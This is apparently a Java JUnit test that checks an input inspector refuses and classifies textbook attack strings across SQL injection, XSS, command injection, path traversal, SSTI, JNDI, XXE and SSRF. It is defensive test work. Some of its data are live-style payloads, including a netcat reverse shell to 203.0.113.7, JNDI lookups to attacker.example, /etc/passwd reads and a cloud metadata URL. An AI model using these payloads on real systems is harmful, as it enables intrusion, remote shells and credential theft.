package dev.rampart.domain.inspection;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** One textbook case a class and more, each named by the right class. */
final class AttackClassesTest {

  @ParameterizedTest
  @CsvSource(
      delimiter = '¦',
      quoteCharacter = '§',
      value = {
        "SQLI ¦ ' OR '1'='1",
        "SQLI ¦ 1 UNION SELECT username, password FROM users--",
        "SQLI ¦ 1; WAITFOR DELAY '0:0:5'--",
        "XSS ¦ <script>alert(1)</script>",
        "XSS ¦ <img src=x onerror=alert(document.cookie)>",
        "XSS ¦ <a href=javascript:alert(1)>x</a>",
        "CMDI ¦ ; cat /etc/passwd",
        "CMDI ¦ $(whoami)",
        "CMDI ¦ x | nc 203.0.113.7 4444 -e /bin/sh",
        "PATH ¦ ../../../../etc/passwd",
        "PATH ¦ ..\\..\\windows\\win.ini",
        "NOSQL ¦ {\"$ne\": null}",
        "LDAP ¦ *)(uid=*))(|(uid=*",
        "SSTI ¦ {{7*7}}",
        "SSTI ¦ ${T(java.lang.Runtime).getRuntime().exec('id')}",
        "JNDI ¦ ${jndi:ldap://attacker.example/a}",
        "JNDI ¦ ${${lower:j}ndi:${lower:l}dap://attacker.example/a}",
        "XXE ¦ <!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
        "SSRF ¦ http://169.254.169.254/latest/meta-data/",
        "SSRF ¦ http://2130706433/",
        "SSRF ¦ gopher://localhost:6379/_INFO",
        "OTHER ¦ __proto__[admin]=1",
      })
  void an_attack_is_refused_and_named(Attack attack, String value) {
    Verdict verdict = Inspected.prose(value);
    assertThat(verdict.refusedIn(FieldKind.PROSE)).isTrue();
    assertThat(verdict.attack()).contains(attack);
  }
}
